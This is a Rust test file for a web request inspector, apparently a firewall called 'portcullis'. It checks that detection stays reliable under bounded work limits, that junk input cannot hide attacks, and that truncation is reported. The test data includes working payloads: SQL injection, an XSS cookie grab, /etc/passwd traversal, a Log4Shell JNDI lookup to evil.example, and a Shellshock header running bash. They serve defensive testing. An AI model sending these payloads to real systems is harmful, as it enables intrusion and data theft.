//! What an inspection may cost is bounded, and the bound hides nothing: junk in one place takes nothing from another, what was
//! not looked at is said, and no ordinary request comes near.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test that cannot go on fails"
)]

use portcullis::headers::Headers;
use portcullis::inspect::Inspector;
use portcullis::limits;
use portcullis_harness::capture::{Reader, Record};
use portcullis_tests::{corpora, inspector};

/// What detectors and expressions find hard, to be repeated; found by `portcullis bench worst`.
const HARD: [&str; 7] = [
    ";id",
    ";x.exe+",
    "%3C",
    "eal(%5Cx41%3C%2525%26%26ls5$aeval(//0x7f.1eal([1$([((a'a",
    "%3C!-041|ca/**/%3C!--%5Cu0041eval(((ja%26%26lsv^%3Carip=",
    "(eqon=Jh%5Cx41i%3Ca%3C%25al(eyJh/./%25j:i%3CS%3C%25al(*/|X(",
    "$(;=%25%7B;x.e|e+%3C%22'+or+1=1+",
];

/// Attacks of several kinds, and a rule that says so.
const ATTACKS: [&str; 4] = [
    "1'+union+select+password+from+users--+-",
    "%3Cscript%3Ealert(document.cookie)%3C/script%3E",
    "../../../../../../etc/passwd",
    "$%7Bjndi:ldap://evil.example/a%7D",
];

fn found(inspector: &mut Inspector, target: &str) -> (Vec<u32>, bool) {
    let pairs: [(&[u8], &[u8]); 3] = [
        (b":method", b"GET"),
        (b":path", target.as_bytes()),
        (b":authority", b"shop.example"),
    ];
    let inspection = inspector.request(Headers::Pairs(&pairs), &());
    let rules = inspection.detections.iter().map(|found| found.rule);
    (rules.collect(), inspection.truncated)
}

fn junk(unit: &str) -> String {
    unit.repeat(56_000 / unit.len())
}

#[test]
fn junk_takes_nothing_from_another_parameter() {
    let mut inspector = inspector();
    for unit in HARD {
        for attack in ATTACKS {
            let (alone, _) = found(&mut inspector, &format!("/?id={attack}"));
            assert!(!alone.is_empty(), "{attack}");
            let junk = junk(unit);
            for target in [
                format!("/?q={junk}&id={attack}"),
                format!("/?id={attack}&q={junk}"),
            ] {
                let (beside, _) = found(&mut inspector, &target);
                let is_there = alone.iter().any(|rule| beside.contains(rule));
                assert!(
                    is_there,
                    "{attack} is not found beside `{unit}` over and over"
                );
            }
        }
    }
}

#[test]
fn what_stands_behind_junk_is_found_or_the_request_is_called_truncated() {
    let mut inspector = inspector();
    let (mut seen, mut said) = (0, 0);
    for unit in HARD {
        for attack in ATTACKS {
            let (alone, _) = found(&mut inspector, &format!("/?id={attack}"));
            let (behind, truncated) = found(&mut inspector, &format!("/?q={}{attack}", junk(unit)));
            let is_there = alone.iter().any(|rule| behind.contains(rule));
            assert!(
                is_there || truncated,
                "{attack} behind `{unit}` over and over"
            );
            seen += usize::from(is_there);
            said += usize::from(truncated);
        }
    }
    eprintln!(
        "of {} found {seen}, truncated {said}",
        HARD.len() * ATTACKS.len()
    );
}

#[test]
fn no_captured_request_comes_near_the_bounds() {
    let Some(folder) = corpora() else { return };
    let mut inspector = inspector();
    let mut most = (0, 0);
    for file in std::fs::read_dir(folder).unwrap() {
        let path = file.unwrap().path();
        if path.extension().is_none_or(|ending| ending != "gz") {
            continue;
        }
        let mut reader = Reader::open(&path, None).unwrap();
        let mut record = Record::default();
        while let Some(read) = reader.read(&mut record) {
            if read.is_err() || record.is_process() {
                continue;
            }
            let pairs = portcullis_harness::capture::event::header_pairs(&record);
            inspector.request(Headers::Pairs(&pairs), &());
            let (short, long) = inspector.spent();
            most = (most.0.max(short), most.1.max(long));
        }
    }
    eprintln!(
        "the dearest took {} steps in short texts, {} in long ones",
        most.0, most.1
    );
    assert!(most.0 > 0 && most.0 < limits::SHORT_WORK / 4, "{most:?}");
    assert!(most.1 < limits::LONG_WORK, "{most:?}");
}

#[test]
fn what_was_not_asked_is_not_taken_for_harmless_later() {
    let mut inspector = inspector();
    let ask = |inspector: &mut Inspector, target: &str| {
        let pairs: [(&[u8], &[u8]); 4] = [
            (b":method", b"GET"),
            (b":path", target.as_bytes()),
            (b":authority", b"shop.example"),
            (b"user-agent", b"() { :; }; /bin/bash -c 'cat /etc/passwd'"),
        ];
        let inspection = inspector.request(Headers::Pairs(&pairs), &());
        (inspection.detections.len(), inspection.truncated)
    };
    // Short texts in number, so that nothing is left for the User-Agent.
    // Nothing that is encoded twice, which alone would keep the User-Agent from being remembered.
    let unit = "1'+or+union+select+a+from+b--(eval(<script>alert(1)</script>;x.exe+|cat+/etc/passwd$(id){{a}}<!--../../etc/passwd".repeat(3);
    let target = (0..60_000 / unit.len()).fold("/?".to_owned(), |target, number| {
        format!("{target}p{number}={unit}&")
    });
    assert!(ask(&mut inspector, &target).1);
    assert_eq!(inspector.spent().0, limits::SHORT_WORK);
    let (found, _) = ask(&mut inspector, "/");
    assert!(found > 0);
}
